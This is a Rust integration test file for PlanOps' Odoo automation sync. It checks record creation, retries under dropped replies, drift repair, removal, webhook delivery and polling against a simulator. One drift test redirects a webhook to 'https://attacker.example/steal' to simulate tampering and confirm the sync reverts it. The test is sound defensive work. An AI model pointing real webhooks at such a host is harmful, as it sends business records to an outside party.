//! Odoo automation as code, at the Odoo level: `automation::sync`, `remove`
//! and `poll_changes` against the simulator over HTTP, counting records to
//! prove "exactly one of each", and a real receiver proving that the records
//! PlanOps creates make Odoo call the gateway.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::extract::{Path, Query, State};
use axum::routing::post;
use planops::api::rule::{EventTriggerSpec, RecordOperation};
use planops::automation::{
    self, AutomationKey, AutomationSpec, Change, Record, SyncError, SyncMode, Trigger,
};
use planops::odoo::domain::Domain;
use planops::odoo::values::format_datetime;
use planops::odoo::{
    OdooClient, OdooConfig, Protocol, RateLimitConfig, RetryConfig, SearchOptions, Secret,
};
use planops::sim::{DatasetParams, FaultConfig, OdooVersion, SimConfig, SimServer};
use serde_json::{Map, Value, json};

const MODEL: &str = "purchase.order.line";

async fn start(version: OdooVersion) -> SimServer {
    let config = SimConfig {
        version,
        dataset: DatasetParams {
            seed: 5,
            products: 20,
            ..DatasetParams::default()
        },
        ..SimConfig::default()
    };
    let addr: SocketAddr = "127.0.0.1:0".parse().expect("loopback");
    SimServer::start(config, addr)
        .await
        .expect("starting the simulator")
}

async fn connect(server: &SimServer) -> OdooClient {
    let mut config = OdooConfig::new(
        &server.url,
        server.db.name(),
        "admin",
        Secret::new(server.db.admin_api_key()),
    );
    config.protocol = Protocol::Auto;
    config.timeout = Duration::from_secs(10);
    config.retry = RetryConfig {
        max_attempts: 10,
        initial_backoff: Duration::from_millis(5),
        max_backoff: Duration::from_millis(50),
        budget: Duration::from_secs(30),
    };
    config.rate_limit = RateLimitConfig {
        rps: 1000.0,
        burst: 1000,
        max_concurrent: 8,
        calls_per_minute: None,
    };
    OdooClient::connect(config).await.expect("connecting")
}

fn events() -> EventTriggerSpec {
    EventTriggerSpec {
        model: MODEL.into(),
        operations: vec![RecordOperation::Write],
        watched_fields: vec!["date_planned".into(), "product_qty".into()],
        filter_domain: Some("[('state', '=', 'purchase')]".into()),
        poll_interval_seconds: None,
    }
}

fn spec(rule: &str, url: &str) -> AutomationSpec {
    AutomationSpec::for_rule("shop", rule, &events(), Secret::new(url)).expect("a valid spec")
}

/// Counts including archived records.
async fn count(client: &OdooClient, model: &str, domain: Value) -> u64 {
    let mut context = Map::new();
    context.insert("active_test".into(), json!(false));
    client
        .with_context(context)
        .search_count(model, &domain)
        .await
        .expect("counting")
}

/// (automations, webhook actions, planops xmlids) in the database.
async fn counts(client: &OdooClient) -> (u64, u64, u64) {
    (
        count(client, "base.automation", json!([])).await,
        count(
            client,
            "ir.actions.server",
            json!([["state", "=", "webhook"]]),
        )
        .await,
        count(client, "ir.model.data", json!([["module", "=", "planops"]])).await,
    )
}

async fn read(client: &OdooClient, model: &str, id: i64, fields: &[&str]) -> Map<String, Value> {
    let mut context = Map::new();
    context.insert("active_test".into(), json!(false));
    client
        .with_context(context)
        .search_read(
            model,
            &json!([["id", "=", id]]),
            fields,
            &SearchOptions::limit(1),
        )
        .await
        .expect("reading")
        .into_iter()
        .next()
        .unwrap_or_else(|| panic!("{model} #{id} exists"))
}

async fn field_names(client: &OdooClient, ids: &Value) -> Vec<String> {
    let ids: Vec<i64> = ids
        .as_array()
        .expect("an id list")
        .iter()
        .filter_map(Value::as_i64)
        .collect();
    let mut names: Vec<String> = client
        .read("ir.model.fields", &ids, &["name"])
        .await
        .expect("reading fields")
        .iter()
        .filter_map(|f| f["name"].as_str().map(str::to_string))
        .collect();
    names.sort();
    names
}

fn webhook_versions() -> [OdooVersion; 3] {
    [OdooVersion::V17, OdooVersion::V18, OdooVersion::V19]
}

#[tokio::test]
async fn sync_creates_one_automation_and_one_action_with_the_spec_and_xmlids() {
    for version in webhook_versions() {
        let server = start(version).await;
        let client = connect(&server).await;
        let before = counts(&client).await;
        let url = "http://127.0.0.1:9/hooks/odoo/shop/late-po?token=t0k3n";
        let spec = spec("late-po", url);

        let outcome = automation::sync(&client, &spec, SyncMode::Apply)
            .await
            .expect("sync");
        assert_eq!(
            outcome.changes,
            vec![
                Change::Created(Record::Automation),
                Change::Created(Record::Action)
            ],
            "{version:?}"
        );
        let after = counts(&client).await;
        assert_eq!(
            (after.0 - before.0, after.1 - before.1, after.2 - before.2),
            (1, 1, 2),
            "{version:?}"
        );

        let automation_id = outcome.automation_id.expect("automation id");
        let action_id = outcome.action_id.expect("action id");
        let rule = read(
            &client,
            "base.automation",
            automation_id,
            &[
                "name",
                "model_id",
                "trigger",
                "trigger_field_ids",
                "filter_domain",
                "active",
                "action_server_ids",
            ],
        )
        .await;
        assert_eq!(rule["trigger"], "on_write");
        assert_eq!(rule["active"], true);
        assert_eq!(rule["filter_domain"], "[('state', '=', 'purchase')]");
        assert_eq!(rule["action_server_ids"], json!([action_id]));
        assert_eq!(
            field_names(&client, &rule["trigger_field_ids"]).await,
            ["date_planned", "product_qty"]
        );
        let model = client
            .read(
                "ir.model",
                &[rule["model_id"][0].as_i64().expect("model id")],
                &["model"],
            )
            .await
            .expect("reading ir.model");
        assert_eq!(model[0]["model"], MODEL);

        let action = read(
            &client,
            "ir.actions.server",
            action_id,
            &[
                "state",
                "webhook_url",
                "webhook_field_ids",
                "base_automation_id",
                "model_id",
            ],
        )
        .await;
        assert_eq!(action["state"], "webhook");
        assert_eq!(action["webhook_url"], url);
        assert_eq!(action["base_automation_id"][0], automation_id);
        assert_eq!(action["model_id"][0], rule["model_id"][0]);
        assert_eq!(
            field_names(&client, &action["webhook_field_ids"]).await,
            ["date_planned", "product_qty", "write_date"]
        );

        let key = AutomationKey::for_rule("shop", "late-po");
        assert_eq!(
            client.resolve_external_id(&key.automation).await.unwrap(),
            Some(("base.automation".to_string(), automation_id))
        );
        assert_eq!(
            client.resolve_external_id(&key.action).await.unwrap(),
            Some(("ir.actions.server".to_string(), action_id))
        );

        // Twice: nothing more, no change, no write.
        let again = automation::sync(&client, &spec, SyncMode::Apply)
            .await
            .expect("second sync");
        assert!(again.in_sync(), "{version:?}: {:?}", again.changes);
        assert_eq!(
            (again.automation_id, again.action_id),
            (Some(automation_id), Some(action_id))
        );
        assert_eq!(counts(&client).await, after, "{version:?}");
        server.shutdown().await;
    }
}

#[tokio::test]
async fn lost_replies_and_retries_leave_exactly_one_of_each() {
    let server = start(OdooVersion::V17).await;
    let client = connect(&server).await;
    let before = counts(&client).await;
    server
        .set_faults(FaultConfig {
            drop_reply_rate: 0.5,
            seed: Some(7),
            ..FaultConfig::default()
        })
        .expect("setting faults");
    let rules: Vec<String> = (0..8).map(|n| format!("rule-{n}")).collect();
    for rule in &rules {
        let spec = spec(
            rule,
            &format!("http://127.0.0.1:9/hooks/odoo/shop/{rule}?token=x"),
        );
        // The reconciler retries a failed sync on its next pass; so does this.
        let mut attempts = 0;
        loop {
            attempts += 1;
            match automation::sync(&client, &spec, SyncMode::Apply).await {
                Ok(_) => break,
                Err(err) if attempts < 10 => eprintln!("{rule}: retrying after {err}"),
                Err(err) => panic!("{rule}: {err}"),
            }
        }
    }
    server.set_faults(FaultConfig::default()).expect("clearing");
    assert!(
        server.stats().faults_injected.dropped_replies > 5,
        "the fault injector dropped too few replies to prove anything"
    );
    let after = counts(&client).await;
    assert_eq!(
        (after.0 - before.0, after.1 - before.1, after.2 - before.2),
        (8, 8, 16)
    );
    for rule in &rules {
        let spec = spec(
            rule,
            &format!("http://127.0.0.1:9/hooks/odoo/shop/{rule}?token=x"),
        );
        let outcome = automation::sync(&client, &spec, SyncMode::Apply)
            .await
            .expect("sync");
        assert!(outcome.in_sync(), "{rule}: {:?}", outcome.changes);
    }
    server.shutdown().await;
}

#[tokio::test]
async fn drift_is_repaired_and_named() {
    for version in webhook_versions() {
        let server = start(version).await;
        let client = connect(&server).await;
        let spec = spec("drift", "http://127.0.0.1:9/hooks/odoo/shop/drift?token=a");
        let first = automation::sync(&client, &spec, SyncMode::Apply)
            .await
            .expect("sync");
        let (automation_id, action_id) = (first.automation_id.unwrap(), first.action_id.unwrap());
        let baseline = counts(&client).await;

        let cases: Vec<(&str, &str, Value, Change)> = vec![
            (
                "ir.actions.server",
                "webhook_url",
                json!("https://attacker.example/steal"),
                Change::Field {
                    record: Record::Action,
                    field: "webhook_url",
                },
            ),
            (
                "base.automation",
                "filter_domain",
                json!("[('id', '=', 1)]"),
                Change::Field {
                    record: Record::Automation,
                    field: "filter_domain",
                },
            ),
            (
                "base.automation",
                "active",
                json!(false),
                Change::Field {
                    record: Record::Automation,
                    field: "active",
                },
            ),
            (
                "base.automation",
                "trigger",
                json!("on_create"),
                Change::Field {
                    record: Record::Automation,
                    field: "trigger",
                },
            ),
        ];
        for (model, field, value, expected) in cases {
            let id = if model == "base.automation" {
                automation_id
            } else {
                action_id
            };
            let mut vals = Map::new();
            vals.insert(field.into(), value);
            client.write(model, &[id], vals).await.expect("editing");
            let dry = automation::sync(&client, &spec, SyncMode::DryRun)
                .await
                .expect("dry run");
            assert_eq!(dry.changes, vec![expected.clone()], "{version:?} {field}");
            let repaired = automation::sync(&client, &spec, SyncMode::Apply)
                .await
                .expect("repair");
            assert_eq!(
                repaired.changes,
                vec![expected.clone()],
                "{version:?} {field}"
            );
            assert!(!repaired.describe().is_empty());
            let again = automation::sync(&client, &spec, SyncMode::Apply)
                .await
                .expect("after repair");
            assert!(again.in_sync(), "{version:?} {field}: {:?}", again.changes);
            assert_eq!(counts(&client).await, baseline, "{version:?} {field}");
        }
        let active = read(&client, "base.automation", automation_id, &["active"]).await;
        assert_eq!(active["active"], true);

        // Deleted in Odoo's UI: recreated, and the action relinked to it.
        client
            .unlink("base.automation", &[automation_id])
            .await
            .expect("deleting the automation");
        let repaired = automation::sync(&client, &spec, SyncMode::Apply)
            .await
            .expect("recreate");
        assert!(
            repaired
                .changes
                .contains(&Change::Recreated(Record::Automation)),
            "{version:?}: {:?}",
            repaired.changes
        );
        let new_id = repaired.automation_id.unwrap();
        assert_ne!(new_id, automation_id);
        assert_eq!(counts(&client).await.0, baseline.0, "{version:?}");
        assert_eq!(counts(&client).await.1, baseline.1, "{version:?}");
        let action = read(
            &client,
            "ir.actions.server",
            action_id,
            &["base_automation_id"],
        )
        .await;
        assert_eq!(action["base_automation_id"][0], new_id);

        // And the action deleted.
        client
            .unlink("ir.actions.server", &[action_id])
            .await
            .expect("deleting the action");
        let repaired = automation::sync(&client, &spec, SyncMode::Apply)
            .await
            .expect("recreate action");
        assert_eq!(
            repaired.changes,
            vec![Change::Recreated(Record::Action)],
            "{version:?}"
        );
        assert_eq!(counts(&client).await.1, baseline.1, "{version:?}");
        assert!(
            automation::sync(&client, &spec, SyncMode::Apply)
                .await
                .expect("sync")
                .in_sync()
        );
        server.shutdown().await;
    }
}

#[tokio::test]
async fn remove_deletes_both_records_and_their_xmlids() {
    let server = start(OdooVersion::V18).await;
    let client = connect(&server).await;
    let before = counts(&client).await;
    let spec = spec("gone", "http://127.0.0.1:9/hooks/odoo/shop/gone?token=a");
    let keep = self::spec("kept", "http://127.0.0.1:9/hooks/odoo/shop/kept?token=b");
    automation::sync(&client, &spec, SyncMode::Apply)
        .await
        .expect("sync");
    automation::sync(&client, &keep, SyncMode::Apply)
        .await
        .expect("sync");
    let removed = automation::remove(&client, &spec.key)
        .await
        .expect("remove");
    assert_eq!(removed, vec![Record::Action, Record::Automation]);
    let after = counts(&client).await;
    assert_eq!(
        (after.0 - before.0, after.1 - before.1, after.2 - before.2),
        (1, 1, 2),
        "only the other rule's records remain"
    );
    assert_eq!(
        client
            .resolve_external_id(&spec.key.automation)
            .await
            .unwrap(),
        None
    );
    assert_eq!(
        client.resolve_external_id(&spec.key.action).await.unwrap(),
        None
    );
    // Repeating it is harmless.
    assert!(
        automation::remove(&client, &spec.key)
            .await
            .expect("again")
            .is_empty()
    );
    assert!(
        automation::sync(&client, &keep, SyncMode::Apply)
            .await
            .expect("sync")
            .in_sync()
    );
    server.shutdown().await;
}

#[derive(Clone, Default)]
struct Received(Arc<Mutex<Vec<(String, Option<String>, Value)>>>);

async fn receiver() -> (String, Received) {
    async fn hook(
        State(received): State<Received>,
        Path((ns, rule)): Path<(String, String)>,
        Query(query): Query<std::collections::HashMap<String, String>>,
        body: String,
    ) -> &'static str {
        let body: Value = serde_json::from_str(&body).unwrap_or(Value::Null);
        if let Ok(mut list) = received.0.lock() {
            list.push((format!("{ns}/{rule}"), query.get("token").cloned(), body));
        }
        "ok"
    }
    let received = Received::default();
    let app = axum::Router::new()
        .route("/hooks/odoo/{ns}/{rule}", post(hook))
        .with_state(received.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("binding the receiver");
    let url = format!("http://{}", listener.local_addr().expect("address"));
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    (url, received)
}

#[tokio::test]
async fn the_records_make_odoo_call_the_gateway_for_matching_writes() {
    for version in webhook_versions() {
        let server = start(version).await;
        let client = connect(&server).await;
        let (base, received) = receiver().await;
        let url = automation::hook_url(&base, "shop", "late-po", "s3cret");
        automation::sync(&client, &spec("late-po", &url), SyncMode::Apply)
            .await
            .expect("sync");

        let lines = client
            .search_read(
                MODEL,
                &json!([["state", "=", "purchase"]]),
                &["order_id"],
                &SearchOptions::limit(2),
            )
            .await
            .expect("reading lines");
        assert!(
            lines.len() == 2,
            "the data set has confirmed purchase lines"
        );
        let line = lines[0]["id"].as_i64().unwrap();
        let mut vals = Map::new();
        vals.insert("date_planned".into(), json!("2031-01-02 08:00:00"));
        client
            .write(MODEL, &[line], vals.clone())
            .await
            .expect("write");

        let deadline = Instant::now() + Duration::from_secs(10);
        let (route, token, body) = loop {
            if let Some(first) = received.0.lock().unwrap().first().cloned() {
                break first;
            }
            assert!(Instant::now() < deadline, "{version:?}: no webhook arrived");
            tokio::time::sleep(Duration::from_millis(20)).await;
        };
        assert_eq!(route, "shop/late-po");
        assert_eq!(token.as_deref(), Some("s3cret"));
        assert_eq!(body["_model"], MODEL);
        assert_eq!(body["_id"], line);
        assert_eq!(body["date_planned"], "2031-01-02 08:00:00");
        assert!(body["write_date"].is_string(), "{body}");

        // A record outside the filter domain does not fire: cancel the other
        // line's order, then write the line.
        let other = lines[1]["id"].as_i64().unwrap();
        let order = lines[1]["order_id"][0].as_i64().unwrap();
        let mut cancel = Map::new();
        cancel.insert("state".into(), json!("cancel"));
        client
            .write("purchase.order", &[order], cancel)
            .await
            .expect("cancel");
        let seen = received.0.lock().unwrap().len();
        client.write(MODEL, &[other], vals).await.expect("write");
        tokio::time::sleep(Duration::from_millis(300)).await;
        let after: Vec<i64> = received.0.lock().unwrap()[seen..]
            .iter()
            .filter_map(|(_, _, b)| b["_id"].as_i64())
            .collect();
        assert!(!after.contains(&other), "{version:?}: {after:?}");
        server.shutdown().await;
    }
}

#[tokio::test]
async fn odoo_16_has_no_webhook_action_and_is_polled_on_write_date() {
    let server = start(OdooVersion::V16).await;
    let client = connect(&server).await;
    let err = automation::sync(
        &client,
        &spec("old", "http://127.0.0.1:9/x?token=t"),
        SyncMode::Apply,
    )
    .await
    .expect_err("16 has no webhook action");
    assert!(
        matches!(err, SyncError::NoWebhookSupport { major: 16 }),
        "{err}"
    );
    assert_eq!(counts(&client).await.1, 0);

    let domain = Domain::parse("[('state', '=', 'purchase')]").unwrap();
    let all = automation::poll_changes(&client, MODEL, &domain, None)
        .await
        .expect("polling");
    assert!(all.len() >= 2);
    assert!(all.windows(2).all(|w| w[0].1 <= w[1].1), "oldest first");
    let newest = all.last().unwrap().1;
    // Odoo stores seconds: a cursor one second after the newest sees nothing
    // until a record is written later.
    let since = newest + jiff::SignedDuration::from_secs(1);
    let line = all[0].0;
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let mut vals = Map::new();
    vals.insert("product_qty".into(), json!(42.0));
    client.write(MODEL, &[line], vals).await.expect("write");
    let changed = automation::poll_changes(&client, MODEL, &domain, Some(since))
        .await
        .expect("polling");
    let ids: Vec<i64> = changed.iter().map(|(id, _)| *id).collect();
    assert_eq!(ids, vec![line], "since {}", format_datetime(since));
    server.shutdown().await;
}

#[test]
fn triggers_and_specs_follow_the_rule() {
    let mut events = events();
    events.operations = vec![];
    events.filter_domain = Some(r#"[["state","=","purchase"]]"#.into());
    let spec = AutomationSpec::for_rule("ns", "r", &events, Secret::new("u")).unwrap();
    assert_eq!(spec.trigger, Trigger::OnCreateOrWrite);
    assert_eq!(
        spec.filter_domain.unwrap().to_python(),
        "[('state', '=', 'purchase')]"
    );
    events.filter_domain = Some("[('state', '=',".into());
    assert!(matches!(
        AutomationSpec::for_rule("ns", "r", &events, Secret::new("u")),
        Err(SyncError::InvalidDomain { .. })
    ));
}
